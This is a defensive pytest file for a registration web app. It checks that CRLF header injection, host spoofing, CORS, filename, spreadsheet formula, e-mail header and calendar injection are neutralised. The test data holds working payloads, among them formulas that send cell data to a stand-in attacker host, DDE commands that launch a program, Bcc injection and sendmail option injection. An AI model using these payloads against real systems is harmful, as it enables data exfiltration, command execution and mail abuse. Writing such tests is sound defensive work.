"""Attempts to break out of a line: of an answer's head, of a table, of an e-mail, of a calendar."""

import csv
import io
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from app.core import sheets
from tests.attacks.server import spoken, statuses
from tests.attacks.siege import OPEN, Siege
from tests.notifications.post_office import Postman, PostOffice, text_of
from tests.samples import PDF
from tests.world import PILOT, World, registration

EVIL = "X-Evil"
ENDS = {
    "CR and LF": "\r\n",
    "LF alone": "\n",
    "CR alone": "\r",
    "CR and LF, twice encoded": "%0d%0a",
    "a line end of Unicode": "\u2028",
    "a paragraph end of Unicode": "\u2029",
    "a next line of C1": "\x85",
    "letters that end in the bytes of a line end": "\u560d\u560a",
    "a vertical tab": "\v",
    "a NUL": "\0",
}


def whole_head(answer: httpx.Response) -> None:
    """No header of the answer was put there by the request, nor is one cut in two."""
    assert EVIL.lower() not in answer.headers
    assert "set-cookie" not in answer.headers
    for name, value in answer.headers.raw:
        assert not {10, 13, 0} & set(value), name


# What in a request comes back in the head of its answer.
REFLECTED: dict[str, Callable[[Siege, str], httpx.Response]] = {
    "a filter, in the link to the next page": lambda siege, text: siege.world.mocca.get(
        f"/v1/registrations?limit=1&edition={quote(PILOT + text)}"
    ),
    "a search, in the link to the next page": lambda siege, text: siege.world.mocca.get(
        f"/v1/registrations?limit=1&q={quote('lyceum' + text)}"
    ),
    "an edition, in the name of a file": lambda siege, text: siege.world.mocca.get(
        f"/v1/editions/{quote(PILOT + text)}/invoices.csv"
    ),
    "an edition, in the name of a calendar": lambda siege, text: siege.world.http.get(
        f"/v1/editions/{quote(PILOT + text)}/calendar.ics"
    ),
    "a certificate, in the name of a file": lambda siege, text: siege.world.mocca.get(
        f"/v1/certificates/{quote(siege.spoils.theirs['number'] + text)}/pdf"
    ),
    "an invoice, in the name of a file": lambda siege, text: siege.world.mocca.get(
        f"/v1/invoices/{quote(siege.spoils.theirs['invoiceNumber'] + text)}/ubl"
    ),
    "a shared link's query": lambda siege, text: siege.world.http.get(
        f"/v1/verifications/{siege.spoils.theirs['code']}?utm={quote(text)}"
    ),
    "an unknown address": lambda siege, text: siege.world.http.get(f"/v1/{quote('x' + text)}"),
    "a method": lambda siege, text: siege.world.http.request("DELETE", f"/v1/editions/{quote(PILOT + text)}"),
}


@pytest.mark.parametrize("place", REFLECTED)
def test_nothing_in_an_address_ends_a_line_of_the_answers_head(untouched: Siege, place: str) -> None:
    for name, end in ENDS.items():
        answer = REFLECTED[place](untouched, f"{end}{EVIL}: 1{end}{end}<b>")
        assert answer.status_code in (200, 400, 404, 405), (name, answer.text)
        whole_head(answer)


# Headers with a line end in them cannot be sent by a library: byte by byte, then.
SENT = {
    "Accept-Language": b"nl\rX-Evil: 1",
    "Idempotency-Key": b"a\nX-Evil: 1",
    "If-None-Match": b'"a\rX-Evil: 1"',
    "Origin": b"https://attacker.example\rX-Evil: 1",
    "Host": b"register.example\rX-Evil: 1",
    "Authorization": b"Bearer a\nX-Evil: 1",
    "X-Request-Id": b"1\rX-Evil: 1",
    "Content-Type": b"application/json\rX-Evil: 1",
    "Forwarded": b"host=attacker.example\nX-Evil: 1",
}


@pytest.mark.parametrize("name", SENT)
def test_no_header_with_a_line_end_comes_back(untouched: Siege, name: str) -> None:
    host = b"" if name == "Host" else b"Host: register.example\r\n"
    said = b"GET /v1/editions HTTP/1.1\r\n" + host + name.encode() + b": " + SENT[name] + b"\r\n"
    answer = spoken(untouched.server, said + b"Connection: close\r\n\r\n")
    assert statuses(answer) in ([200], [400]), answer[:500]
    head = answer.partition(b"\r\n\r\n")[0].lower()
    assert b"x-evil" not in head, answer[:500]
    assert b"attacker.example" not in head


# Who says that the server is called otherwise, so that links lead there.
CALLED: dict[str, dict[str, str]] = {
    "by Host": {"Host": "attacker.example"},
    "by Host, with a port": {"Host": "register.example:443@attacker.example"},
    "by X-Forwarded-Host": {"X-Forwarded-Host": "attacker.example"},
    "by Forwarded": {"Forwarded": "host=attacker.example;proto=http;for=127.0.0.1"},
    "by X-Forwarded-Proto": {"X-Forwarded-Proto": "http", "X-Forwarded-Port": "81"},
    "by X-Original-URL": {"X-Original-URL": "//attacker.example"},
    "by X-Forwarded-Prefix": {"X-Forwarded-Prefix": "//attacker.example"},
}


@pytest.mark.parametrize("name", CALLED)
def test_nobody_gives_the_server_another_name(siege: Siege, name: str) -> None:
    """Links in answers and letters lead to the configured address, wherever a request says it goes."""
    made = siege.world.fleck.post("/v1/registrations", registration(OPEN), headers=CALLED[name])
    listed = siege.world.mocca.get("/v1/registrations", params={"limit": 1}, headers=CALLED[name])
    back = siege.world.http.get("/v1/verifications", headers=CALLED[name])
    for answer in (made, listed, back):
        assert "attacker" not in answer.text
        assert "attacker" not in str(answer.headers)
    assert made.json()["enrolmentForm"]["url"].startswith("https://register.example/v1/enrolment-forms/")


ORIGINS = (
    *("https://attacker.example", "null", "https://register.example.attacker.example", "file://"),
    *("https://attacker-register.example", "http://register.example", "https://register.example"),
)


@pytest.mark.parametrize("origin", ORIGINS)
def test_no_page_elsewhere_may_read_or_send(untouched: Siege, origin: str) -> None:
    headers = {"Origin": origin, "Access-Control-Request-Method": "DELETE"}
    for answer in (
        untouched.world.mocca.get("/v1/registrations", headers={"Origin": origin}),
        untouched.world.http.request("OPTIONS", "/v1/registrations", headers=headers),
    ):
        told = [one for one in answer.headers if one.startswith("access-control-allow")]
        assert told == [], answer.headers


FILES = {
    "a line end": b'"a\r\nX-Evil: 1.pdf"',
    "a line end, as browsers write it": b'"a%0d%0aX-Evil: 1.pdf"',
    "a quotation mark": b'"a%22; filename=evil.exe; x=%22.pdf"',
    "a semicolon": b'"a.pdf; filename=evil.exe"',
    "another charset": b"\"a\"; filename*=UTF-7''+AA0-+AAo-X-Evil.pdf",
    "a word encoded for mail": b'"=?utf-8?q?=0D=0AX-Evil:_1?=.pdf"',
    "a name without end": b'"' + b"a" * 3000 + b'.pdf"',
    "a script": b'"<script>alert(1)</script>.pdf"',
    "a mark that turns the reading round": '"plan\u202efdp.exe"'.encode(),
    "half a character": b'"\xed\xa0\x80.pdf"',
}


@pytest.mark.parametrize("name", FILES)
def test_no_name_of_a_file_breaks_out_of_the_head_of_its_download(siege: Siege, name: str) -> None:
    world, id = siege.world, siege.spoils.theirs["registrationId"]
    body = b'--b\r\nContent-Disposition: form-data; name="file"; filename=' + FILES[name]
    content = body + b"\r\nContent-Type: application/pdf\r\n\r\n" + PDF + name.encode() + b"\r\n--b--\r\n"
    headers = {"Content-Type": "multipart/form-data; boundary=b"}
    made = world.provider.request(
        "POST", f"/v1/registrations/{id}/progress/onderzoek/files", content=content, headers=headers
    )
    if made.status_code == 400:
        return
    assert made.status_code == 201, made.text
    answer = world.provider.get(f"/v1/files/{made.json()['id']}/content")
    whole_head(answer)
    said = answer.headers["content-disposition"]
    assert said.startswith('attachment; filename="')
    assert said.count('"') == 2
    assert (answer.headers["content-type"], answer.headers["x-content-type-options"]) == (
        "application/pdf",
        "nosniff",
    )
    plain = made.json()["name"]
    assert plain.endswith(".pdf")
    assert not {"/", "\\", "\r", "\n", "\0", '"', "<", "\u202e"} & set(plain)
    assert world.provider.delete(f"/v1/files/{made.json()['id']}").status_code == 204


FORMULAS = {
    "a sum": "=1+1",
    "a program": "=cmd|' /C calc'!A0",
    "a link that tells": '=HYPERLINK("https://attacker.example/?"&A1;"klik")',
    "a page that is asked": '=WEBSERVICE("https://attacker.example")',
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at sign": "@SUM(1;1)",
    "a pipe": "|calc",
    "a percent sign": "%0A=1+1",
    "a wide equals sign": "\uff1d1+1",
    "a wide plus": "\uff0b1+1",
    "a wide minus": "\uff0d1+1",
    "a wide at sign": "\uff201+1",
    "a space before": "a\u00a0=1+1",
    "an apostrophe before": "'=1+1",
    "a quotation mark before": '"=1+1',
    "a separator before": ";=1+1",
    "a comma before": ",=1+1",
    "a DDE": '=DDE("cmd";"/C calc";"x")',
}
DANGEROUS = tuple("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")


def cells(content: bytes) -> list[list[str]]:
    """A table as a spreadsheet reads it."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";", strict=True))


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(siege: Siege, name: str) -> None:
    text, world = FORMULAS[name], siege.world
    names = {"givenName": text, "familyNamePrefix": text[:40], "familyName": text}
    body = registration(
        OPEN,
        applicant=names,
        position=text,
        motivation=f"{text}\n{text}",
        school={"name": text, "city": text},
    )
    made = world.fleck.post("/v1/registrations", body)
    assert made.status_code == 201, made.text
    for party in (world.fleck, world.admin):
        table = cells(party.get(f"/v1/registration-exports/registrations.csv?edition={OPEN}").content)
        (row,) = [row for row in table if row[0] == made.json()["id"]]
        assert [cell for row in table for cell in row if cell.startswith(DANGEROUS)] == []
        assert [sheets.original(cell) for cell in row].count(text) >= 4


@pytest.mark.parametrize("name", FORMULAS)
def test_no_row_that_was_refused_comes_back_as_a_formula(siege: Siege, name: str) -> None:
    """A file comes in, and what was refused of it goes out again, to be opened in a spreadsheet."""
    world, text = siege.world, FORMULAS[name].replace('"', '""')
    file = f'editie;voornaam;achternaam;e-mail\n{OPEN};"{text}";"{text}";"{text}"\n'.encode()
    headers = {"Content-Type": "text/csv"}
    made = world.fleck.request("POST", "/v1/registration-imports", content=file, headers=headers)
    assert made.status_code in (201, 400), made.text
    if made.status_code == 201:
        answer = world.fleck.get(f"{made.headers['location']}/refused.csv")
        assert answer.status_code in (200, 409), answer.text
        if answer.status_code == 200:
            assert [cell for row in cells(answer.content) for cell in row if cell.startswith(DANGEROUS)] == []


TABLES = {
    "certificates": "/v1/editions/{edition}/certificates.csv",
    "invoices": "/v1/editions/{edition}/invoices.csv",
    "attendance": "/v1/sessions/{sessionId}/attendance.csv",
}


@pytest.mark.parametrize("name", TABLES)
def test_no_name_of_a_participant_is_a_formula_in_another_table(breach: Siege, name: str) -> None:
    """The participant is renamed after the fact, by its partner."""
    world, theirs = breach.world, breach.spoils.theirs
    change = {"givenName": "=1+1", "familyNamePrefix": "@x", "familyName": "+1"}
    assert world.mocca.patch(f"/v1/applicants/{theirs['applicantId']}", change).status_code == 200
    more = {"position": "-1", "school": {"name": "=cmd|x!A", "city": "|x"}}
    assert world.mocca.patch(f"/v1/registrations/{theirs['registrationId']}", more).status_code == 200
    table = cells(world.provider.get(TABLES[name].format(**breach.names)).content)
    assert len(table) > 1
    assert [cell for row in table for cell in row if cell.startswith(DANGEROUS)] == []


def test_a_table_without_that_care_would_hold_a_formula() -> None:
    """So the attempts above could have found one."""
    content = sheets.write(["name"], [["=1+1"]])
    assert cells(content)[1] == ["'=1+1"]
    assert [cell for cell in ("=1+1",) if cell.startswith(DANGEROUS)]


ADDRESSES = {
    "a second recipient": "noor@lyceum.example,evil@attacker.example",
    "a second recipient, after a semicolon": "noor@lyceum.example;evil@attacker.example",
    "a line end and Bcc": "noor@lyceum.example\r\nBcc: evil@attacker.example",
    "a line end, encoded": "noor@lyceum.example%0d%0aBcc: evil@attacker.example",
    "a line end in quotation marks": '"noor\r\nBcc: evil"@lyceum.example',
    "a name and an address": "Noor <evil@attacker.example>",
    "a remark": "noor@lyceum.example (evil@attacker.example)",
    "a route": "@attacker.example:noor@lyceum.example",
    "an address of this machine": "root@[127.0.0.1]",
    "an option of a mail program": "-OQueueDirectory=queue -Xlog/x@lyceum.example",
    "a NUL": "noor\0@lyceum.example",
    "a mark that turns the reading round": "noor\u202e@lyceum.example",
    "a command of SMTP": "noor@lyceum.example>\r\nDATA\r\n.",
}


@pytest.mark.parametrize("name", ADDRESSES)
def test_no_e_mail_address_is_more_than_one(untouched: Siege, name: str) -> None:
    world, text = untouched.world, ADDRESSES[name]
    sent: list[httpx.Response] = [
        world.fleck.post("/v1/registrations", registration(OPEN, applicant={"email": text})),
        world.mocca.patch(f"/v1/applicants/{untouched.spoils.theirs['applicantId']}", {"email": text}),
        world.admin.patch("/v1/organisations/fleck", {"email": text}),
    ]
    taken = [answer for answer in sent if answer.status_code != 400]
    assert taken == [], [answer.text for answer in taken]


# Who is called so gets a letter; whose name ends a line gets none, for it is no name.
NAMES = {
    "a word encoded for mail": "=?utf-8?q?Noor=0D=0ABcc:_evil=40attacker.example?=",
    "a header": "Noor Bcc: evil@attacker.example",
    "brackets": "Noor <evil@attacker.example>",
    "quotation marks": 'Noor" <evil@attacker.example>, "',
    "a comma": "Noor, evil@attacker.example",
    "a boundary": "--===============boundary==",
    "a full stop that ends a message": ".",
    "a template": "{{ config }}{% for x in y %}",
    "a script": "<script>alert(1)</script>",
}


def test_no_name_breaks_out_of_a_letter(world: World) -> None:
    """All of them, over a real mail server: one recipient each, and no header that we did not write."""
    with PostOffice() as office:
        postman = Postman(world, office.port)
        for name in NAMES.values():
            world.register(applicant={"givenName": name[:90], "familyName": name[:90]})
        postman.round()
        assert len(office.received) == len(NAMES)
        assert all("attacker.example" not in recipient for _, recipient in office.envelopes)
        for mail in office.received:
            known = {"from", "to", "reply-to", "subject", "date", "message-id", "auto-submitted"}
            known |= {"mime-version", "content-type", "content-language", "content-transfer-encoding"}
            assert {header.lower() for header in mail} - known - {"x-peer", "x-mailfrom", "x-rcptto"} == set()
            assert len(mail["to"].addresses) == 1
            assert mail["to"].addresses[0].domain == "lyceum.example"
            assert text_of(mail)
            html: Any = mail.get_body(("html",))
            assert "<script>alert" not in html.get_content()


CALENDAR = {
    "a line end": "Bijeenkomst\r\nATTENDEE:mailto:evil@attacker.example",
    "a line end alone": "Bijeenkomst\nEND:VEVENT",
    "a written line end": "Bijeenkomst\\nATTENDEE:mailto:evil@attacker.example",
    "a separator": "Bijeenkomst;X=1:evil",
    "a quotation mark": 'Bijeenkomst"',
    "a long line": "é" * 190,
}


@pytest.mark.parametrize("name", CALENDAR)
def test_no_title_of_a_session_breaks_out_of_its_calendar(siege: Siege, name: str) -> None:
    world = siege.world
    body = {"title": CALENDAR[name], "mode": "online", "editions": [OPEN], "allowOverlap": True}
    times = {"startsAt": "2022-09-01T14:00:00+02:00", "endsAt": "2022-09-01T17:00:00+02:00"}
    made = world.provider.post("/v1/sessions", {**body, **times})
    assert made.status_code in (201, 400), made.text
    feed = world.http.get(f"/v1/editions/{OPEN}/calendar.ics")
    assert feed.status_code == 200
    lines = feed.text.split("\r\n")
    assert not [line for line in lines if line.startswith(("ATTENDEE", "X=1"))]
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT")
    assert not [line for line in lines if len(line.encode()) > 75 or "\n" in line]
